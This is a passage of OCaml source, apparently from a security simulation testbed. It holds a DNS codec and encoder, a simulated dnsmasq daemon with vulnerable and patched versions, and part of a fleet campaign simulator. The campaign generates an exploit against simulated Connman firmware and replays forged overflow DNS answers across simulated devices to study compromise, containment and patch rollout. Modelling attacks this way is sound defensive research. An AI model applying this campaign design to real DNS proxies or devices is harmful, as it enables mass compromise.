   exactly [suffix]?  Recorded names only ever point backward at other
   recorded names, so the chase terminates.  Every read is bounded by
   [a.pos]: the offsets recorded for the name currently being written
   are followed by not-yet-written bytes, and reading those would make
   a name spuriously self-match against buffer garbage. *)
let rec suffix_eq_at a off suffix =
  off < a.pos
  &&
  let b = Char.code (Bytes.unsafe_get a.out off) in
  if b = 0 then suffix = []
  else if b >= 0xC0 then
    off + 2 <= a.pos
    &&
    let target =
      ((b land 0x3F) lsl 8) lor Char.code (Bytes.unsafe_get a.out (off + 1))
    in
    suffix_eq_at a target suffix
  else
    match suffix with
    | [] -> false
    | label :: rest ->
        String.length label = b
        && off + 1 + b <= a.pos
        && (let rec eq i =
              i >= b
              || (Bytes.unsafe_get a.out (off + 1 + i) = String.unsafe_get label i
                 && eq (i + 1))
            in
            eq 0)
        && suffix_eq_at a (off + 1 + b) rest

let find_suffix a suffix =
  let rec go i =
    if i >= a.n_noffs then -1
    else if suffix_eq_at a a.noffs.(i) suffix then a.noffs.(i)
    else go (i + 1)
  in
  go 0

let record_suffix a off =
  if a.n_noffs = Array.length a.noffs then begin
    let bigger = Array.make (2 * a.n_noffs) 0 in
    Array.blit a.noffs 0 bigger 0 a.n_noffs;
    a.noffs <- bigger
  end;
  a.noffs.(a.n_noffs) <- off;
  a.n_noffs <- a.n_noffs + 1

(* Same decision procedure as the legacy Hashtbl encoder: point at a
   previously written equal suffix (offsets are only recorded below
   0x4000, the pointer's reach), otherwise record this suffix's offset
   and write the leading label.  Label lengths are validated here so a
   bad length can never reach the wire as a reserved/pointer bit
   pattern; the message matches the legacy encoder's. *)
let add_name a ~compress labels =
  let rec go suffix =
    match suffix with
    | [] -> add_u8 a 0
    | label :: rest ->
        let off = if compress then find_suffix a suffix else -1 in
        if off >= 0 then add_u16 a (0xC000 lor off)
        else begin
          if compress && a.pos < 0x4000 then record_suffix a a.pos;
          let n = String.length label in
          if n = 0 || n > 63 then
            invalid_arg ("Dns.Packet.encode: bad label length " ^ string_of_int n);
          add_u8 a n;
          add_string a label;
          go rest
        end
  in
  go labels
