(** Zero-copy DNS wire codec: reusable decode views and encode arenas.

    {!Packet} keeps the friendly materializing API as a thin shim over
    this module; hot paths (the Connman proxy, the dnsmasq daemon, the
    resolver, the benchmarks) hold one {!view} and one {!arena} and
    reuse them across packets so steady-state parsing and encoding
    allocate (almost) nothing.

    {b Borrowing rules.}  A [view] borrows the message string passed to
    {!parse} until the next [parse] on the same view; every offset
    returned by an accessor indexes that string.  Do not read accessors
    of a view whose last [parse] returned an error.  An [arena]'s bytes
    are valid until the next {!reset} or write; {!contents} copies them
    out into a fresh string. *)

(** {1 Byte accessors}

    Unchecked big-endian reads — callers are expected to pass offsets
    already validated by {!parse} or the walker. *)

val get_u8 : string -> int -> int
val get_u16 : string -> int -> int
val get_u32 : string -> int -> int

(** {1 Strict name walker} *)

val walk :
  string -> int -> emit:(pos:int -> len:int -> unit) -> (int, string) result
(** [walk msg off ~emit] validates the (possibly compressed) name at
    [off], calling [emit ~pos ~len] for each label's byte range, and
    returns the bytes consumed at [off] (a pointer consumes 2).  Strict:
    label lengths above 63 are rejected, and every compression pointer
    must point {e strictly backward} — before the name itself, and
    before the previous pointer's target once jumped — as real
    resolvers require.  Error strings match the legacy
    {!Name.decode}/{!Packet.decode} classes. *)

val skip_name : string -> int -> (int, string) result
(** {!walk} without observing labels. *)

val name_equal_consumed :
  string -> int -> string list -> (bool * int, string) result
(** [name_equal_consumed msg off labels] walks the wire name at [off]
    and compares it against [labels] without materializing anything.
    [Ok (equal, consumed)] on a well-formed name. *)

val name_labels : string -> int -> (string list * int, string) result
(** Materialize the name at [off] — equivalent to {!Name.decode}. *)

val name_to_string : string -> int -> string
(** Dotted rendering ([ "." ] for the root) of a name already validated
    by {!parse}.  Raises [Invalid_argument] on a malformed name — that
    is a caller bug, not an input condition. *)

val rtype_is_name : int -> bool
(** True for the record types whose RDATA is a (possibly compressed)
    domain name: NS (2), CNAME (5), PTR (12). *)

(** {1 Decoding} *)

type view
(** Reusable parse state: packed [int] arrays of offsets into the
    borrowed message.  Grown geometrically, never shrunk. *)

val create_view : unit -> view

val parse : view -> string -> (unit, string) result
(** Validate [msg] and index it into the view.  Accepts exactly the
    messages the legacy {!Packet.decode} accepts, with the same error
    strings (enforced by the codec-differential fuzz mode). *)

(** {2 Header accessors} *)

val id : view -> int
val flags : view -> int
val qr : view -> bool
val opcode : view -> int
val aa : view -> bool
val tc : view -> bool
val rd : view -> bool
val ra : view -> bool
val rcode : view -> int
val qdcount : view -> int
val ancount : view -> int
val nscount : view -> int
val arcount : view -> int

(** {2 Section accessors}

    Questions are indexed [0 .. qdcount-1].  Resource records are
    indexed [0 .. rr_count-1] in wire order: answers first, then
    authorities (starting at [ancount]), then additionals. *)

val question_name : view -> int -> int
(** Offset of question [i]'s name in the borrowed message. *)

val question_qtype : view -> int -> int
(** Question [i]'s qtype code. *)

val rr_name : view -> int -> int
val rr_rtype : view -> int -> int
val rr_ttl : view -> int -> int
val rr_rdlen : view -> int -> int

val rr_rdata : view -> int -> int
(** Offset of record [i]'s rdata in the borrowed message ([rr_rdlen]
    bytes; for CNAME/NS/PTR it is a validated, possibly compressed
    name). *)

val rr_count : view -> int

(** {1 Encoding} *)

type arena
(** Reusable encode state: a growable output buffer plus a single-pass
    name-compression table.  {!reset} before each message; the
    compression decisions are byte-identical to the legacy
    [Buffer]/[Hashtbl] encoder. *)

val arena : ?capacity:int -> unit -> arena
val reset : arena -> unit
val length : arena -> int

val contents : arena -> string
(** Copy of the bytes written since the last {!reset}. *)

val unsafe_bytes : arena -> Bytes.t
(** The live backing buffer — valid until the next write or {!reset};
    only the first {!length} bytes are meaningful. *)

val add_u8 : arena -> int -> unit
val add_u16 : arena -> int -> unit
val add_u32 : arena -> int -> unit
val add_string : arena -> string -> unit
val add_substring : arena -> string -> int -> int -> unit

val add_name : arena -> compress:bool -> string list -> unit
(** Emit a name, pointing at a previously emitted equal suffix when
    [compress] is set.  Raises [Invalid_argument] on empty or >63-byte
    labels with the same message as {!Packet.encode}. *)
