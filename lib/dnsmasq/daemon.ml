module Mem = Memsim.Memory
module O = Machine.Outcome

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of O.stop_reason
  | Compromised of O.stop_reason
  | Blocked of O.stop_reason

let pp_disposition ppf = function
  | Cached n -> Format.fprintf ppf "cached %d record(s)" n
  | Dropped why -> Format.fprintf ppf "dropped (%s)" why
  | Crashed r -> Format.fprintf ppf "CRASHED: %a" O.pp r
  | Compromised r -> Format.fprintf ppf "COMPROMISED: %a" O.pp r
  | Blocked r -> Format.fprintf ppf "blocked by defense: %a" O.pp r

type config = {
  patched : bool;
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
}

type t = {
  config : config;
  mutable proc : Loader.Process.t;
  mutable alive : bool;
  mutable restarts : int;
  mutable next_id : int;
  mutable steps : int;
  pending : (int, Dns.Packet.question) Hashtbl.t;
  view : Dns.Wire.view;  (* reusable zero-copy parse state (host side) *)
  cache : Dns.Cache.t;
  mutable clock : int;  (* logical seconds, advanced by [tick] *)
  mutable telemetry : Telemetry.Trace.t option;
  mutable profiler : Telemetry.Profile.t option;
  mutable icache_hits : int;
  mutable icache_misses : int;
}

let track = "dnsmasq"

let trace_event t ?dur ?ts name args =
  match t.telemetry with
  | None -> ()
  | Some tr -> Telemetry.Trace.emit tr ?ts ?dur ~cat:"daemon" ~track name ~args

let build_spec config =
  match config.arch with
  | Loader.Arch.X86 ->
      Program_x86.spec ~patched:config.patched ~profile:config.profile
  | Loader.Arch.Arm ->
      Program_arm.spec ~patched:config.patched ~profile:config.profile

let negative_ttl = 60

let boot config ~restarts =
  Loader.Process.boot (build_spec config) ~profile:config.profile
    ~seed:(config.boot_seed + (restarts * 7919))

let create ?cache_capacity config =
  {
    config;
    proc = boot config ~restarts:0;
    alive = true;
    restarts = 0;
    next_id = 0x2000 + (config.boot_seed land 0xFFF);
    steps = 0;
    pending = Hashtbl.create 8;
    view = Dns.Wire.create_view ();
    cache = Dns.Cache.create ?capacity:cache_capacity ();
    clock = 0;
    telemetry = None;
    profiler = None;
    icache_hits = 0;
    icache_misses = 0;
  }

(* As in Connman's proxy: re-emit the region snapshot on attach, since the
   boot-time [map] events predate the sink. *)
let snapshot_regions t =
  match t.telemetry with
  | None -> ()
  | Some tr ->
      List.iter
        (fun (reg : Mem.region) ->
          Telemetry.Trace.emit tr ~cat:"mem" ~track:"memory" "region"
            ~args:
              [
                ("name", Telemetry.Trace.S reg.Mem.name);
                ("base", Telemetry.Trace.I reg.Mem.base);
                ("size", Telemetry.Trace.I reg.Mem.size);
                ("proc", Telemetry.Trace.S track);
              ])
        (Mem.regions t.proc.Loader.Process.mem)

let set_trace t tr =
  t.telemetry <- tr;
  Mem.set_trace t.proc.Loader.Process.mem tr;
  snapshot_regions t

let set_profiler t p = t.profiler <- p

let restart t =
  t.restarts <- t.restarts + 1;
  t.proc <- boot t.config ~restarts:t.restarts;
  t.alive <- true;
  Hashtbl.reset t.pending;
  Mem.set_trace t.proc.Loader.Process.mem t.telemetry;
  trace_event t "restart" [ ("restarts", Telemetry.Trace.I t.restarts) ];
  snapshot_regions t

let process t = t.proc
let alive t = t.alive
let tick t seconds = t.clock <- t.clock + max 0 seconds
let cache t = t.cache
let cache_stats t = Dns.Cache.stats t.cache

let cache_lookup t qname =
  let r = Dns.Cache.lookup t.cache ~now:t.clock (Dns.Name.to_string qname) in
  (match t.telemetry with
  | None -> ()
  | Some _ ->
      trace_event t
        (match r with Some _ -> "cache-hit" | None -> "cache-miss")
        [ ("qname", Telemetry.Trace.S (Dns.Name.to_string qname)) ]);
  r

let make_query t qname =
  let id = t.next_id land 0xFFFF in
  t.next_id <- t.next_id + 1;
  let q = Dns.Packet.query ~id qname Dns.Packet.A in
  Hashtbl.replace t.pending id (List.hd q.Dns.Packet.questions);
  trace_event t "query"
    [
      ("qname", Telemetry.Trace.S (Dns.Name.to_string qname));
      ("id", Telemetry.Trace.I id);
    ];
  q

let prevalidate t wire =
  let len = String.length wire in
  if len < 12 then Error "short packet"
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    if (u16 2 lsr 15) land 1 <> 1 then Error "not a response"
    else if u16 4 <> 1 || u16 6 < 1 then Error "unexpected counts"
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> Error "unknown transaction id"
      | Some _ ->
          Hashtbl.remove t.pending (u16 0);
          Ok ()

(* Same host-side policy as Connman's proxy: an NXDOMAIN answering a
   pending question is negatively cached and never parsed. *)
let nxdomain_negative t wire =
  let len = String.length wire in
  if len < 12 then false
  else
    let u16 off = (Char.code wire.[off] lsl 8) lor Char.code wire.[off + 1] in
    let flags = u16 2 in
    if (flags lsr 15) land 1 <> 1 || flags land 0xF <> 3 then false
    else
      match Hashtbl.find_opt t.pending (u16 0) with
      | None -> false
      | Some pending ->
          Hashtbl.remove t.pending (u16 0);
          Dns.Cache.insert_negative t.cache ~now:t.clock
            ~name:(Dns.Name.to_string pending.Dns.Packet.qname)
            ~ttl:negative_ttl;
          true

(* Record the A answers of a successfully-parsed response through the
   reusable zero-copy view; returns the answer count (0 when the wire
   does not strictly parse).  Only the cache key is materialized. *)
let update_cache t wire =
  match Dns.Wire.parse t.view wire with
  | Error _ -> 0
  | Ok () ->
      for i = 0 to Dns.Wire.ancount t.view - 1 do
        if
          Dns.Wire.rr_rtype t.view i = Dns.Packet.qtype_code Dns.Packet.A
          && Dns.Wire.rr_rdlen t.view i = 4
        then
          Dns.Cache.insert t.cache ~now:t.clock
            ~name:(Dns.Wire.name_to_string wire (Dns.Wire.rr_name t.view i))
            ~ttl:(Dns.Wire.rr_ttl t.view i)
            ~ipv4:(Dns.Wire.get_u32 wire (Dns.Wire.rr_rdata t.view i))
      done;
      Dns.Wire.ancount t.view

let disposition_event t = function
  | Cached n -> trace_event t "cached" [ ("records", Telemetry.Trace.I n) ]
  | Dropped why -> trace_event t "drop" [ ("reason", Telemetry.Trace.S why) ]
  | Crashed r ->
      trace_event t "crashed" [ ("reason", Telemetry.Trace.S (O.to_string r)) ]
  | Compromised r ->
      trace_event t "compromised"
        [ ("reason", Telemetry.Trace.S (O.to_string r)) ]
  | Blocked r ->
      trace_event t "blocked" [ ("reason", Telemetry.Trace.S (O.to_string r)) ]

let handle_response t wire =
  trace_event t "rx-response"
    [ ("bytes", Telemetry.Trace.I (String.length wire)) ];
  let d =
    if not t.alive then Dropped "daemon not running"
    else if nxdomain_negative t wire then Dropped "nxdomain (negative cached)"
    else
      match prevalidate t wire with
      | Error why -> Dropped why
      | Ok () ->
          let buf = t.proc.Loader.Process.layout.Loader.Layout.heap_base in
          if
            String.length wire
            > t.proc.Loader.Process.layout.Loader.Layout.heap_size
          then Dropped "oversized datagram"
          else begin
            Mem.write_bytes t.proc.Loader.Process.mem buf wire;
            let entry = Loader.Process.symbol t.proc "process_reply" in
            let ts0 =
              match t.telemetry with
              | Some tr -> Telemetry.Trace.now tr
              | None -> 0
            in
            let r =
              Loader.Process.call t.proc ~fuel:400_000 ?trace:t.telemetry
                ?profile:t.profiler ~entry
                ~args:[ buf; String.length wire ]
            in
            t.steps <- r.Loader.Process.steps;
            t.icache_hits <- t.icache_hits + r.Loader.Process.icache_hits;
            t.icache_misses <- t.icache_misses + r.Loader.Process.icache_misses;
            trace_event t "parse" ~ts:ts0 ~dur:r.Loader.Process.steps
              [ ("steps", Telemetry.Trace.I r.Loader.Process.steps) ];
            match r.Loader.Process.outcome with
            | O.Halted -> Cached (update_cache t wire)
            | O.Exec _ as reason ->
                t.alive <- false;
                Compromised reason
            | (O.Fault _ | O.Decode_error _ | O.Fuel_exhausted | O.Exited _) as
              reason ->
                t.alive <- false;
                Crashed reason
            | (O.Cfi_violation _ | O.Aborted _) as reason ->
                t.alive <- false;
                Blocked reason
          end
  in
  disposition_event t d;
  d

let last_steps t = t.steps

let register_metrics t reg =
  let labels = [ ("daemon", track) ] in
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"daemon restarts after a crash" "daemon_restarts_total" (fun () ->
      float_of_int t.restarts);
  Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
    ~help:"1 if the daemon is accepting responses" "daemon_alive" (fun () ->
      if t.alive then 1.0 else 0.0);
  Telemetry.Metrics.probe reg ~labels ~kind:`Gauge
    ~help:"instructions retired by the most recent parse"
    "daemon_parse_steps" (fun () -> float_of_int t.steps);
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"decoded-instruction cache hits across parses"
    "daemon_icache_hits_total" (fun () -> float_of_int t.icache_hits);
  Telemetry.Metrics.probe reg ~labels ~kind:`Counter
    ~help:"decoded-instruction cache misses across parses"
    "daemon_icache_misses_total" (fun () -> float_of_int t.icache_misses);
  Dns.Cache.register_metrics t.cache reg ~prefix:track
