(** The dnsmasq-sim forwarder daemon (§V adaptation target).

    Same operational surface as {!Connman.Dnsproxy}: queries out,
    responses pre-validated and then parsed by the vulnerable machine
    code.  The point of this module is that {!Exploit.Autogen} retargets
    to it by swapping frame geometry only. *)

type disposition =
  | Cached of int
  | Dropped of string
  | Crashed of Machine.Outcome.stop_reason
  | Compromised of Machine.Outcome.stop_reason
  | Blocked of Machine.Outcome.stop_reason

val pp_disposition : Format.formatter -> disposition -> unit

type config = {
  patched : bool;  (** 2.78 (bounded) vs 2.77 (vulnerable) *)
  arch : Loader.Arch.t;
  profile : Defense.Profile.t;
  boot_seed : int;
}

type t

val create : ?cache_capacity:int -> config -> t
(** [cache_capacity] bounds the daemon's DNS cache (default 256). *)

val process : t -> Loader.Process.t
val alive : t -> bool
val make_query : t -> Dns.Name.t -> Dns.Packet.t

val handle_response : t -> string -> disposition
(** A successful parse records the response's A answers in the cache;
    an NXDOMAIN matching a pending question is negatively cached and
    dropped before the machine-level parse. *)

val cache_lookup : t -> Dns.Name.t -> int option
(** IPv4 (host order) cached for a name, if fresh on the daemon's
    logical clock. *)

val cache : t -> Dns.Cache.t
val cache_stats : t -> Dns.Cache.stats

val tick : t -> int -> unit
(** Advance the daemon's logical clock (drives TTL expiry). *)

val negative_ttl : int
(** Seconds an NXDOMAIN is negatively cached. *)

val restart : t -> unit
(** Reboot the daemon after a crash (fresh address-space draw derived
    from the boot seed and restart count, as a supervisor restart would
    give); outstanding transactions are forgotten, the cache survives. *)

val last_steps : t -> int
(** Instructions retired by the most recent machine-level parse. *)

val set_trace : t -> Telemetry.Trace.t option -> unit
(** Attach a telemetry sink: lifecycle events under category ["daemon"]
    track ["dnsmasq"], plus the process memory's fault/mapping events
    (region snapshot re-emitted on attach and after {!restart}). *)

val set_profiler : t -> Telemetry.Profile.t option -> unit

val register_metrics : t -> Telemetry.Metrics.t -> unit
(** Register [daemon_*] probes (labelled [{daemon="dnsmasq"}]) and the
    DNS cache's [dns_cache_*] probes into the registry. *)
