module W = Netsim.World
module Sim = Netsim.Sim
module Ip = Netsim.Ip
module Rng = Memsim.Rng
module Dnsproxy = Connman.Dnsproxy
module Version = Connman.Version
module Supervisor = Core.Supervisor
module Autogen = Exploit.Autogen
module Profile = Defense.Profile

let client_port = 5353

type config = {
  seed : int;
  devices : int;
  lans : int;
  shards : int;
  batch_us : int;
  arch : Loader.Arch.t;
  diversity_frac : float;
  round_gap_us : int;
  benign_names : int;
  attack_start_us : int;
  forge_exploit : float;
  forge_dos : float;
  pinned_per_lan : int;
  chaos : Netsim.Faults.policy;
  sup_policy : Supervisor.policy;
  health : Health.config;
  escalate_frac : float;
  rollout_start_us : int;
  canary : int;
  wave : int;
  soak_us : int;
  wave_gap_us : int;
  rollback_frac : float;
  bad_wave : int option;
  sample_gap_us : int;
  horizon_us : int;
}

let default_config =
  {
    seed = 42;
    devices = 1000;
    lans = 20;
    shards = 4;
    batch_us = 100;
    arch = Loader.Arch.X86;
    diversity_frac = 0.0;
    round_gap_us = 5_000_000;
    benign_names = 48;
    attack_start_us = 1_000_000;
    forge_exploit = 0.25;
    forge_dos = 0.05;
    pinned_per_lan = 2;
    chaos = { Netsim.Faults.default with drop = 0.02 };
    sup_policy = Supervisor.default_policy;
    health = Health.default_config;
    escalate_frac = 0.35;
    rollout_start_us = 10_000_000;
    canary = 32;
    wave = 160;
    soak_us = 6_000_000;
    wave_gap_us = 1_000_000;
    rollback_frac = 0.05;
    bad_wave = Some 2;
    sample_gap_us = 5_000_000;
    horizon_us = 90_000_000;
  }

let smoke_config =
  {
    default_config with
    devices = 48;
    lans = 4;
    shards = 2;
    round_gap_us = 2_000_000;
    attack_start_us = 500_000;
    forge_exploit = 0.3;
    forge_dos = 0.1;
    pinned_per_lan = 1;
    health =
      { Health.default_config with window_us = 8_000_000;
        probation_us = 6_000_000 };
    rollout_start_us = 4_000_000;
    canary = 8;
    wave = 40;
    soak_us = 3_000_000;
    wave_gap_us = 500_000;
    bad_wave = Some 1;
    sample_gap_us = 2_000_000;
    horizon_us = 40_000_000;
  }

(* Default flight-recorder rules for a fleet campaign: a couple of
   recorded trajectories (compromised fraction, compromise/crash rates,
   windowed availability) and the alerts the acceptance story needs —
   the compromise wave must fire while the attack spreads and resolve
   once containment + rollout win.  Thresholds are per-second rates, so
   they hold across fleet sizes roughly proportionally to device count;
   they are tuned for the default and smoke configs. *)
let default_rules =
  "# recorded trajectories\n\
   record fleet_compromised_fraction = fleet_compromised_devices / fleet_devices\n\
   record fleet_compromise_rate = rate(fleet_compromises_total[10s])\n\
   record fleet_crash_rate = rate(fleet_crashes_total[10s])\n\
   record fleet_availability = rate(fleet_answered_total[15s]) / rate(fleet_lookups_total[15s])\n\
   # alerts\n\
   alert compromise_wave if fleet_compromise_rate > 0.2 for 3s clear 0.02\n\
   alert compromised_fraction_slo if fleet_compromised_fraction > 0.02 for 5s\n\
   alert crash_storm if fleet_crash_rate > 2 for 5s clear 0.2\n\
   alert availability_slo_burn if 1 - fleet_availability > 0.5 for 10s clear 0.2\n\
   # diversity cohorts (all-zero series when diversity_frac = 0)\n\
   record fleet_div_compromised_fraction = fleet_diversity_compromised{cohort=\"div\"} / fleet_diversity_devices{cohort=\"div\"}\n\
   record fleet_stock_compromised_fraction = fleet_diversity_compromised{cohort=\"stock\"} / fleet_diversity_devices{cohort=\"stock\"}\n\
   alert stock_cohort_compromised if fleet_stock_compromised_fraction > 0.05 for 5s clear 0.01\n"

type wave_outcome = {
  o_wave : Rollout.wave;
  o_applied_us : int;
  o_evaluated_us : int;
  o_hits : int;
  o_rolled_back : bool;
}

type sample = {
  s_at_us : int;
  s_compromises : int;
  s_crashes : int;
  s_patched : int;
  s_healthy : int;
  s_degraded : int;
  s_quarantined : int;
  s_reintroduced : int;
}

type report = {
  r_config : config;
  r_waves : wave_outcome list;
  r_samples : sample list;
  r_lookups : int;
  r_answered : int;
  r_availability : float;
  r_compromises : int;
  r_compromised_devices : int;
  r_diversified : int;
  r_div_compromised : int;
  r_stock_compromised : int;
  r_crashes : int;
  r_restarts : int;
  r_quarantines : int;
  r_reintroductions : int;
  r_revivals : int;
  r_escalations : int;
  r_rollbacks : int;
  r_forks : int;
  r_converged_us : int;
  r_cache_hits : int;
  r_cache_misses : int;
  r_delivered : int;
  r_dropped : int;
  r_events : int;
}

let arch_name = function Loader.Arch.X86 -> "x86" | Loader.Arch.Arm -> "arm"

let validate cfg =
  let fail fmt = Printf.ksprintf invalid_arg ("Fleet.Campaign.run: " ^^ fmt) in
  if cfg.devices < 1 then fail "devices must be positive";
  if cfg.lans < 1 then fail "lans must be positive";
  if cfg.devices < cfg.lans then fail "need at least one device per LAN";
  if cfg.devices / cfg.lans > 200 then fail "more than 200 devices per LAN";
  if cfg.shards < 1 then fail "shards must be positive";
  if cfg.benign_names < 1 then fail "benign_names must be positive";
  if cfg.round_gap_us < 1 || cfg.sample_gap_us < 1 then
    fail "round_gap_us and sample_gap_us must be positive";
  if cfg.horizon_us < cfg.round_gap_us then
    fail "horizon shorter than one traffic round";
  if cfg.forge_exploit < 0.0 || cfg.forge_dos < 0.0
     || cfg.forge_exploit +. cfg.forge_dos > 1.0
  then fail "forge probabilities must be non-negative and sum to <= 1";
  if cfg.pinned_per_lan < 0 then fail "pinned_per_lan must be non-negative";
  if cfg.diversity_frac < 0.0 || cfg.diversity_frac > 1.0 then
    fail "diversity_frac must be in [0, 1]";
  ignore (Netsim.Faults.validate cfg.chaos)

(* One fleet device.  The supervisor watches the *member*, not a daemon
   instance: [restart] re-forks from the member's current cohort
   template, so a patch (daemon swap) never invalidates the supervisor
   and a supervisor restart reimages rather than re-booting the
   possibly-compromised image. *)
type member = {
  idx : int;
  mhost : W.host;
  mlan : int;
  mshard : int;
  mcell : Hierarchy.cell;
  mhealth : Health.t;
  mutable mdaemon : Dnsproxy.t;
  mutable mtemplate : Dnsproxy.t;
  mutable mcohort : string;
  mutable mpatched : bool;
  mutable mrotation : bool;
  mutable msup : Supervisor.t option;
  mutable mhits : int;  (* crash/compromise events since the last patch *)
  mutable mever_compromised : bool;
  mdiversity : int option;  (* per-member variant master seed; None = stock *)
  mutable mboots : int;  (* daemon spawns, to derive per-boot variant seeds *)
  forks : int ref;  (* campaign-wide CoW spawn counter *)
}

(* Re-spawn a member's daemon from its current cohort template.
   Diversified members draw a fresh variant seed on every spawn —
   initial boot, supervisor restart, probation reimage, patch wave —
   so whatever layout an attacker learned from a previous boot dies
   with the crash that revealed it. *)
let respawn m =
  incr m.forks;
  m.mboots <- m.mboots + 1;
  match m.mdiversity with
  | None -> Dnsproxy.fork m.mtemplate
  | Some master ->
      Dnsproxy.fork_diversified m.mtemplate
        ~diversity_seed:(Diversity.Pool.seed_for ~master m.mboots)

module Member_daemon = struct
  type t = member

  let kind = "connmand"
  let alive m = Dnsproxy.alive m.mdaemon
  let restart m = m.mdaemon <- respawn m
end

type lan_ctx = {
  l_lan : W.lan;
  l_shard : int;
  l_resolver : W.host;
  l_resolver_ip : Ip.t;
  l_cache : Dns.Cache.t;
  mutable l_pinned : Ip.t list;
}

let run ?metrics ?monitor cfg =
  validate cfg;
  let world = W.create ~seed:cfg.seed ~shards:cfg.shards ~batch:cfg.batch_us () in
  W.set_default_policy world cfg.chaos;
  (* Three firmware templates: the vulnerable build, the real fix, and
     the injected faulty "patch" (a rebuild that still ships the
     vulnerable parser).  Every device is a CoW fork of one of these. *)
  let base version seed_off =
    {
      Dnsproxy.version;
      arch = cfg.arch;
      profile = Profile.wx;
      boot_seed = cfg.seed + seed_off;
      diversity_seed = None;
    }
  in
  let vuln_t = Dnsproxy.create (base Version.v1_34 0) in
  let good_t = Dnsproxy.create (base Version.v1_35 1) in
  let bad_t = Dnsproxy.create (base Version.v1_34 2) in
  (* The exploit is planned once against the attacker's analysis copy
     (their own boot of the same firmware) and replayed fleet-wide. *)
  let analysis = Dnsproxy.process (Dnsproxy.create (base Version.v1_34 5000)) in
  let raw_name =
    match Autogen.generate ~analysis:(Exploit.Target.connman analysis) () with
    | Ok (_payload, raw) -> raw
    | Error e -> invalid_arg ("Fleet.Campaign.run: exploit generation: " ^ e)
  in
  let forks = ref 0 in
  (* Diversity cohort membership: the low product bits of an odd
     multiplier are a bijection on 16-bit indices, so the diversified
     set is an exactly-[diversity_frac] spread interleaved across LANs
     and rollout waves (never a contiguous index range that would alias
     a wave cohort). *)
  let div_threshold = int_of_float ((cfg.diversity_frac *. 65536.0) +. 0.5) in
  let diversified i = (i * 0x9E37_79B9) land 0xFFFF < div_threshold in
  (* Flight-recorder journal: a no-op closure when no monitor is attached
     keeps the hot paths branch-cheap. *)
  let jn =
    match monitor with
    | None -> fun ?detail:_ ~ts:_ ~source:_ ~actor:_ _ -> ()
    | Some mon ->
        fun ?detail ~ts ~source ~actor kind ->
          Telemetry.Monitor.journal mon ~ts ~source ~actor ?detail kind
  in
  let journaling = monitor <> None in
  (* Wire-byte provenance: locate the overflow name inside the forged
     response.  Every forged exploit answer embeds [raw_name] at the same
     offset (the benign qname length is fixed), so the first search is
     cached and later hits are a single memcmp at the cached offset. *)
  let prov_cache = ref (-1) in
  let rlen = String.length raw_name in
  let provenance_detail payload =
    let plen = String.length payload in
    if plen > 4096 then
      Printf.sprintf "oversized DoS answer: %d-byte payload (name > 4KiB)" plen
    else begin
      let matches_at o =
        o >= 0
        && o + rlen <= plen
        &&
        let i = ref 0 in
        while !i < rlen && payload.[o + !i] = raw_name.[!i] do incr i done;
        !i = rlen
      in
      let off =
        if matches_at !prov_cache then !prov_cache
        else begin
          let found = ref (-1) in
          (try
             for o = 0 to plen - rlen do
               if matches_at o then begin
                 found := o;
                 raise Exit
               end
             done
           with Exit -> ());
          prov_cache := !found;
          !found
        end
      in
      if off >= 0 then
        Printf.sprintf
          "forged answer: %d-byte overflow name at wire[%d..%d] of %d bytes"
          rlen off (off + rlen - 1) plen
      else Printf.sprintf "hostile answer: %d-byte payload" plen
    end
  in
  let lookups = ref 0 and answered = ref 0 in
  let compromises = ref 0 and crashes = ref 0 in
  let win_comp = ref 0 and win_crash = ref 0 in
  let revivals = ref 0 and rollbacks = ref 0 in
  let samples = ref [] and waves_out = ref [] in
  let converged = ref (-1) in
  let hier = Hierarchy.create ~escalate_frac:cfg.escalate_frac () in
  let lans =
    Array.init cfg.lans (fun l ->
        let shard = l mod cfg.shards in
        let lan = W.add_lan ~shard world ~name:(Printf.sprintf "lan-%02d" l) in
        let resolver =
          W.add_host world ~name:(Printf.sprintf "resolver-%02d" l)
        in
        let rip = Ip.of_string (Printf.sprintf "10.%d.0.1" l) in
        W.set_host_ip resolver (Some rip);
        W.attach resolver lan;
        {
          l_lan = lan;
          l_shard = shard;
          l_resolver = resolver;
          l_resolver_ip = rip;
          l_cache = Dns.Cache.create ~capacity:256 ~shards:4 ();
          l_pinned = [];
        })
  in
  let cells =
    Array.map (fun lc -> Hierarchy.add_cell hier ~name:(W.lan_name lc.l_lan))
      lans
  in
  let members =
    Array.init cfg.devices (fun i ->
        let l = i mod cfg.lans in
        let j = i / cfg.lans in
        let lc = lans.(l) in
        let host = W.add_host world ~name:(Printf.sprintf "dev-%04d" i) in
        W.set_host_ip host (Some (Ip.of_string (Printf.sprintf "10.%d.1.%d" l (10 + j))));
        W.attach host lc.l_lan;
        let m =
          {
            idx = i;
            mhost = host;
            mlan = l;
            mshard = lc.l_shard;
            mcell = cells.(l);
            mhealth = Health.create ~config:cfg.health ();
            mdaemon = vuln_t;  (* placeholder, replaced by [respawn] below *)
            mtemplate = vuln_t;
            mcohort = "fleet";
            mpatched = false;
            mrotation = true;
            msup = None;
            mhits = 0;
            mever_compromised = false;
            mdiversity =
              (if diversified i then
                 Some (Diversity.Pool.seed_for ~master:(cfg.seed lxor 0xD1F0) i)
               else None);
            mboots = 0;
            forks;
          }
        in
        m.mdaemon <- respawn m;
        m)
  in
  let cell_members = Array.make cfg.lans [] in
  Array.iter
    (fun m -> cell_members.(m.mlan) <- m :: cell_members.(m.mlan))
    members;
  let plan =
    Rollout.plan ~devices:cfg.devices ~canary:cfg.canary ~wave:cfg.wave
      ~bad_wave:cfg.bad_wave
  in
  List.iter
    (fun (w : Rollout.wave) ->
      for k = w.Rollout.w_first to w.Rollout.w_first + w.Rollout.w_count - 1 do
        members.(k).mcohort <- w.Rollout.w_label
      done)
    plan;
  let ssim m = W.shard_sim world m.mshard in
  let now_of m = Sim.now (ssim m) in
  (* Health side effects: entering quarantine pulls the device out of
     rotation and arms the probation timer; probation reimages the
     device from its current template, clears a supervisor give-up via
     [revive], and puts it back on watch as [Reintroduced]. *)
  let rec after_health m prev st ~now ~cause =
    if st <> prev then begin
      let dev = W.host_name m.mhost in
      match st with
      | Health.Quarantined -> ()  (* journaled in [enter_quarantine] *)
